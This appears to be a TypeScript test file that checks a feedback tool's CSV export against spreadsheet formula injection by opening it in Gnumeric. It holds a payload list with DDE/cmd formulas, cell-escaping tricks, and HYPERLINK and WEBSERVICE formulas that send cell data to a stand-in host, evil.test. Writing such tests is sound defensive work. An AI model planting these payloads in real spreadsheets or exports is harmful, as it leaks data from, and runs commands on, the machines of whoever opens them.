import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSqlite } from '../../server/database/open-sqlite.ts';
import { sampleRow } from '../../server/feedback/feedback-row.fixture.ts';
import { createFeedbackStore } from '../../server/feedback/feedback-store.ts';
import { runReview } from '../../server/review/run-review.ts';

const program = '/usr/bin/ssconvert';
let folder: string;
beforeAll(() => {
  if (!existsSync(program)) {
    throw new Error(
      'This test needs a spreadsheet program: apt-get install --no-install-recommends gnumeric',
    );
  }
  folder = mkdtempSync(path.join(tmpdir(), 'spreadsheet-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

/** Words that a spreadsheet takes for a formula when they stand in a cell as they are. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"1")',
  '=WEBSERVICE("http://evil.test/")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
];

/** Words that try to leave their cell, or to hide how they begin. */
const tricks = [
  ...formulas.flatMap((it) => [`\t${it}`, `\r${it}`, `\n${it}`, ` ${it}`, `\u00a0${it}`, `'${it}`]),
  ...formulas.flatMap((it) => [`","${it}`, `"\r\n"${it}`, `",${it},"`, `;${it}`, `"${it}"`]),
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '=',
  '"=1+1',
  '\uFEFF=1+1',
  'Line one\n=1+1',
];

interface Cell {
  row: number;
  text: string;
  isFormula: boolean;
}

/** Opens a table in the program and gives its cells; it keeps a type for each that is no formula. */
function openTable(file: string): Cell[] {
  const opened = `${file}.xml`;
  execFileSync(
    program,
    ['--import-type=Gnumeric_stf:stf_csvtab', '--export-type=Gnumeric_XmlIO:sax:0', file, opened],
    { stdio: 'pipe' },
  );
  const cells = readFileSync(opened, 'utf8').matchAll(
    /<gnm:Cell Row="(\d+)" Col="\d+"([^>]*)>([^<]*)<\/gnm:Cell>/g,
  );
  return Array.from(cells, ([, row = '', attributes = '', text = '']) => ({
    row: Number(row),
    text,
    isFormula: !attributes.includes('ValueType='),
  }));
}

it('T17 opens the export of hostile messages in a spreadsheet: no cell is a formula', async () => {
  const file = path.join(folder, 'feedback.sqlite');
  const words = [...formulas, ...tricks];
  const store = await createFeedbackStore(openSqlite(file));
  const rows = words.map((it, at) => {
    const oneWord = it.replaceAll(/\s/g, '').slice(0, 40);
    return sampleRow({ key: `hostile-${at}`, comment: it, section: oneWord, version: oneWord });
  });
  expect(await store.add(rows)).toEqual(words.map(() => 'stored'));
  await store.close();
  const table = path.join(folder, 'feedback.csv');
  await runReview(['export', '--out', table], { FEEDBACK_FILE: file });
  const cells = openTable(table);
  expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
  expect(new Set(cells.map(({ row }) => row)).size).toBe(words.length + 1);
  console.log(
    `${words.length} hostile messages in a spreadsheet: ${cells.length} cells, 0 formulas`,
  );
}, 120_000);

it('T17 would see a formula: the same words written into a table as they are', () => {
  const table = path.join(folder, 'careless.csv');
  const lines = formulas.map((it) => `"${it.replaceAll('"', '""')}"`);
  writeFileSync(table, `${lines.join('\r\n')}\r\n`);
  const found = openTable(table).filter(({ isFormula }) => isFormula);
  // This program takes only an equals sign for the start of one, and only where it can read the rest.
  expect(found.map(({ row }) => formulas[row])).toEqual([
    '=1+1',
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    '=WEBSERVICE("http://evil.test/")',
  ]);
}, 120_000);
